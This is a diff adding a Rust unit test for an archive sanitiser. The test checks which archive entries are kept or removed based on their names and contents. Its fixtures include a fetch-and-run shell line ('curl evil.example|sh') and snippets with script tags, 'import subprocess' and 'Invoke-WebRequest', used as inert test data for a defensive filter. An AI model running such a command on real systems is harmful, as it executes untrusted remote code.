@@ -100,3 +100,47 @@ fn unused(names: &mut std::collections::HashSet<String>, name: String) -> String
     let next = (2..).map(|i| format!("{stem} ({i}).{end}")).find(|name| names.insert(name.to_lowercase()));
     next.unwrap_or(name)
 }
+
+#[cfg(test)]
+mod tests {
+    #![expect(clippy::unwrap_used, reason = "tests")]
+
+    use super::*;
+    use crate::{Settings, sanitise as sanitise_file};
+
+    #[test]
+    fn a_text_is_letters_where_its_name_in_the_archive_makes_it_that() {
+        let log = "GET /?q=<script>x</script> 404\nimport subprocess\nInvoke-WebRequest x\n";
+        let index = "<?xml version=\"1.0\"?><!DOCTYPE constdata SYSTEM \"INDE_C07.DTD\"><constdata/>";
+        let entries = [
+            ("a/access.log", log),
+            ("a/INDEX_C.XML", index),
+            ("a/INDE_C07.DTD", "<!ELEMENT constdata EMPTY>"),
+            ("a/memo.MD", "#!/bin/sh\ncurl evil.example|sh\n"),
+            ("b/page.txt", "<html><script>x()</script>"),
+            ("b/run.ps1", "Invoke-WebRequest x\n"),
+            ("b/no_name", log),
+            ("b/query.txt", "[InternetShortcut]\nURL=x\n"),
+            ("b/table.csv", "Invoke-WebRequest x,1\n"),
+            ("b/x.xml", "import subprocess\n"),
+        ];
+        let mut writer = Writer::default();
+        for (name, text) in entries {
+            writer.add(name, NO_TIME, text.as_bytes(), false).unwrap();
+        }
+        let settings = Settings::default();
+        let made = sanitise_file(&writer.finish().unwrap(), None, &settings);
+        let Verdict::Rebuilt { bytes, removed } = made.verdict else { panic!("{made:?}") };
+        let budget = Budget::new(&settings.limits);
+        let left = Archive::read(&bytes, &budget).unwrap();
+        for (name, text) in &entries[..4] {
+            let kept = left.unpack(left.find(name).unwrap(), &budget).unwrap();
+            assert_eq!(kept, text.as_bytes(), "{name}");
+        }
+        let left_out = removed.iter().filter(|one| one.what == Part::Entry && one.place.starts_with("b/"));
+        assert_eq!((left_out.count(), left.entries.len()), (6, 5), "{removed:?}");
+        // Alone it has no name that stays.
+        let alone = sanitise_file(b"import subprocess\n", Some("memo.md"), &settings).verdict;
+        assert!(matches!(alone, Verdict::Refused(refusal) if refusal.reason == Reason::Program));
+    }
+}
